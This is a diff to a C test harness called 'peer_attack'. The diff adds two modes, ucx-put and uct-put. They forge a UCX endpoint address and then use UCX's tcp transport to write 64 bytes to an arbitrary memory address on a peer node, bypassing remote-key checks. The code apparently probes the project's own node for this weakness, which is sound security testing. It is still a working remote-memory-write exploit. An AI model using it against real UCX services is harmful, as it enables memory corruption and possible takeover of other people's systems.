@@ -42,6 +42,7 @@
 #include <netinet/tcp.h>
 
 #include <ucp/api/ucp.h>
+#include <uct/api/uct.h>
 
 #include "kvt/tp_frame.h"
 
@@ -515,7 +516,192 @@ static int mode_ucx_worker(const char *host, uint16_t port)
            a.ep_err != 0 ? ucs_status_string((ucs_status_t)a.ep_err) : "no error seen");
     /* Leave without closing: UCX's own teardown of a half-wired ep is not ours to
      * test here. */
+    fflush(stdout);
     _exit(a.answers == 0 && get_state != 1 && !got_data ? 0 : 1);
+}
+
+/* ucx-put HOST PORT ADDR: wired up as ucx-worker, a PUT of 64 bytes ("kvtier-put-probe"
+ * repeated) to the node's address ADDR, then a flush. Says whether UCX completed it
+ * (the caller looks at the node's memory). */
+static int mode_ucx_put(const char *host, uint16_t port, uint64_t raddr)
+{
+    struct ucx_att a = {0};
+    ucp_address_t *addr;
+    size_t alen, hits = 0, at = 0;
+    int own;
+    uint16_t own_be, victim_be = htons(port);
+    uint8_t *forged;
+    static uint8_t mine[4096];
+
+    (void)host;
+    if (att_open(&a, true) < 0 || ucp_worker_get_address(a.worker, &addr, &alen) != UCS_OK)
+        return 2;
+    own = own_uct_port();
+    if (own <= 0)
+        return 3;
+    own_be = htons((uint16_t)own);
+    forged = malloc(alen);
+    memcpy(forged, addr, alen);
+    for (size_t i = 9; i + 1 < alen; i++)
+        if (memcmp(forged + i, &own_be, 2) == 0) {
+            hits++;
+            at = i;
+        }
+    if (hits != 1 || alen < 9)
+        return 3;
+    memcpy(forged + at, &victim_be, 2);
+    for (int i = 1; i <= 8; i++)
+        forged[i] = (uint8_t)rnd();
+    ucp_ep_params_t ep = {
+        .field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
+                      UCP_EP_PARAM_FIELD_ERR_HANDLER,
+        .address = (ucp_address_t *)forged,
+        .err_mode = UCP_ERR_HANDLING_MODE_PEER,
+        .err_handler = {.cb = att_err, .arg = &a},
+    };
+    if (ucp_ep_create(a.worker, &ep, &a.ep) != UCS_OK)
+        return 3;
+    att_progress(&a, 500);
+    for (size_t i = 0; i < sizeof(mine); i++)
+        mine[i] = (uint8_t) "kvtier-put-probe"[i % 16];
+
+    ucp_mem_map_params_t mp = {.field_mask =
+                                   UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH,
+                               .address = mine,
+                               .length = sizeof(mine)};
+    ucp_mem_h memh;
+    void *rkb;
+    size_t rkl;
+    ucp_rkey_h rk;
+    const char *what = "not posted (no rkey)";
+
+    if (ucp_mem_map(a.ctx, &mp, &memh) == UCS_OK &&
+        ucp_rkey_pack(a.ctx, memh, &rkb, &rkl) == UCS_OK &&
+        ucp_ep_rkey_unpack(a.ep, rkb, &rk) == UCS_OK) {
+        ucp_request_param_t rp = {.op_attr_mask = 0};
+        ucs_status_ptr_t r = ucp_put_nbx(a.ep, mine, 64, raddr, rk, &rp);
+        uint64_t until = now_ms() + 2000;
+
+        if (UCS_PTR_IS_ERR(r)) {
+            what = "failed at once";
+        } else {
+            while (UCS_PTR_IS_PTR(r) && now_ms() < until &&
+                   ucp_request_check_status(r) == UCS_INPROGRESS)
+                ucp_worker_progress(a.worker);
+            what = r == NULL || ucp_request_check_status(r) == UCS_OK ? "completed"
+                   : ucp_request_check_status(r) == UCS_INPROGRESS    ? "pending after 2 s"
+                                                                      : "failed";
+            ucs_status_ptr_t f = ucp_ep_flush_nbx(a.ep, &rp);
+
+            until = now_ms() + 2000;
+            while (UCS_PTR_IS_PTR(f) && now_ms() < until &&
+                   ucp_request_check_status(f) == UCS_INPROGRESS)
+                ucp_worker_progress(a.worker);
+        }
+    }
+    att_progress(&a, 500);
+    printf("ucx-put: PUT of 64 bytes to 0x%llx through UCX's port %u: %s; endpoint %s\n",
+           (unsigned long long)raddr, port, what,
+           a.ep_err != 0 ? ucs_status_string((ucs_status_t)a.ep_err) : "no error seen");
+    fflush(stdout);
+    _exit(0);
+}
+
+/* uct-put HOST PORT ADDR: UCX's transport layer directly, no UCP: a uct tcp endpoint
+ * to UCX's own tcp port of the node (its address: ours on lo, with PORT), and a
+ * uct_ep_put_zcopy of 64 bytes ("kvtier-uct-probe" repeated) to the node's address
+ * ADDR. UCX 1.13's tcp interface writes a PUT request's payload wherever its header
+ * says (uct_tcp_ep_handle_put_req), whatever the UCP features of the worker: the
+ * caller looks at the node's memory. */
+static int mode_uct_put(const char *host, uint16_t port, uint64_t raddr)
+{
+    uct_component_h *comps;
+    unsigned n_comps;
+    uct_md_h md = NULL;
+    uct_md_config_t *mdc;
+    uct_iface_config_t *ic;
+    uct_iface_h iface;
+    uct_ep_h ep;
+    ucs_async_context_t *async;
+    uct_worker_h worker;
+    uct_iface_attr_t attr;
+    uint8_t dev[256];
+    uint16_t iaddr = htons(port);
+    static uint8_t buf[64];
+    uct_completion_t comp = {.count = 1, .status = UCS_OK};
+    ucs_status_t st;
+
+    (void)host;
+    for (size_t i = 0; i < sizeof(buf); i++)
+        buf[i] = (uint8_t) "kvtier-uct-probe"[i % 16];
+    if (uct_query_components(&comps, &n_comps) != UCS_OK)
+        return 2;
+    for (unsigned i = 0; i < n_comps && md == NULL; i++) {
+        uct_component_attr_t ca = {.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME};
+
+        if (uct_component_query(comps[i], &ca) != UCS_OK || strcmp(ca.name, "tcp") != 0)
+            continue;
+        if (uct_md_config_read(comps[i], NULL, NULL, &mdc) != UCS_OK ||
+            uct_md_open(comps[i], "tcp", mdc, &md) != UCS_OK)
+            return 2;
+    }
+    if (md == NULL || ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &async) != UCS_OK ||
+        uct_worker_create(async, UCS_THREAD_MODE_SINGLE, &worker) != UCS_OK ||
+        uct_md_iface_config_read(md, "tcp", NULL, NULL, &ic) != UCS_OK)
+        return 2;
+    uct_iface_params_t ip = {
+        .field_mask = UCT_IFACE_PARAM_FIELD_OPEN_MODE | UCT_IFACE_PARAM_FIELD_DEVICE |
+                      UCT_IFACE_PARAM_FIELD_FEATURES,
+        .open_mode = UCT_IFACE_OPEN_MODE_DEVICE,
+        .mode.device = {.tl_name = "tcp", .dev_name = "lo"},
+        .features = UCT_IFACE_FEATURE_AM | UCT_IFACE_FEATURE_PUT,
+    };
+    st = uct_iface_open(md, worker, &ip, ic, &iface);
+    if (st != UCS_OK || uct_iface_query(iface, &attr) != UCS_OK ||
+        attr.device_addr_len > sizeof(dev) ||
+        uct_iface_get_device_address(iface, (uct_device_addr_t *)dev) != UCS_OK) {
+        printf("uct-put: no uct tcp interface on lo (%s)\n", ucs_status_string(st));
+        return 3;
+    }
+    uct_iface_progress_enable(iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
+    uct_ep_params_t ep_p = {
+        .field_mask =
+            UCT_EP_PARAM_FIELD_IFACE | UCT_EP_PARAM_FIELD_DEV_ADDR | UCT_EP_PARAM_FIELD_IFACE_ADDR,
+        .iface = iface,
+        .dev_addr = (const uct_device_addr_t *)dev,
+        .iface_addr = (const uct_iface_addr_t *)&iaddr,
+    };
+    if (uct_ep_create(&ep_p, &ep) != UCS_OK) {
+        printf("uct-put: uct_ep_create to port %u failed\n", port);
+        return 3;
+    }
+    uct_iov_t iov = {.buffer = buf, .length = sizeof(buf), .memh = UCT_MEM_HANDLE_NULL, .count = 1};
+    uint64_t until = now_ms() + 3000;
+
+    /* NO_RESOURCE until uct tcp's connection handshake is done. */
+    while ((st = uct_ep_put_zcopy(ep, &iov, 1, raddr, UCT_INVALID_RKEY, &comp)) ==
+               UCS_ERR_NO_RESOURCE &&
+           now_ms() < until)
+        uct_worker_progress(worker);
+    while (st == UCS_INPROGRESS && comp.count > 0 && now_ms() < until)
+        uct_worker_progress(worker);
+    if (st == UCS_INPROGRESS)
+        st = comp.count > 0 ? UCS_INPROGRESS : comp.status;
+    /* The PUT is acknowledged once written: a flush says so. */
+    uct_completion_t fc = {.count = 1, .status = UCS_OK};
+    ucs_status_t fst;
+
+    until = now_ms() + 3000;
+    while ((fst = uct_ep_flush(ep, 0, &fc)) == UCS_ERR_NO_RESOURCE && now_ms() < until)
+        uct_worker_progress(worker);
+    while (fst == UCS_INPROGRESS && fc.count > 0 && now_ms() < until)
+        uct_worker_progress(worker);
+    if (fst == UCS_INPROGRESS)
+        fst = fc.count > 0 ? UCS_INPROGRESS : fc.status;
+    printf("uct-put: uct tcp PUT of 64 bytes to 0x%llx through UCX's port %u: put %s, flush %s\n",
+           (unsigned long long)raddr, port, ucs_status_string(st), ucs_status_string(fst));
+    fflush(stdout);
+    _exit(0);
 }
 
 int main(int argc, char **argv)
@@ -529,6 +715,10 @@ int main(int argc, char **argv)
         return mode_idle(argv[2], (uint16_t)atoi(argv[3]), (unsigned)atoi(argv[4]));
     if (argc >= 4 && strcmp(argv[1], "ucx-sockaddr") == 0)
         return mode_ucx_sockaddr(argv[2], (uint16_t)atoi(argv[3]));
+    if (argc >= 5 && strcmp(argv[1], "uct-put") == 0)
+        return mode_uct_put(argv[2], (uint16_t)atoi(argv[3]), strtoull(argv[4], NULL, 0));
+    if (argc >= 5 && strcmp(argv[1], "ucx-put") == 0)
+        return mode_ucx_put(argv[2], (uint16_t)atoi(argv[3]), strtoull(argv[4], NULL, 0));
     if (argc >= 4 && strcmp(argv[1], "ucx-worker") == 0)
         return mode_ucx_worker(argv[2], (uint16_t)atoi(argv[3]));
     fprintf(stderr, "usage: peer_attack frames|bytes|idle|ucx-sockaddr|ucx-worker HOST PORT ...\n");
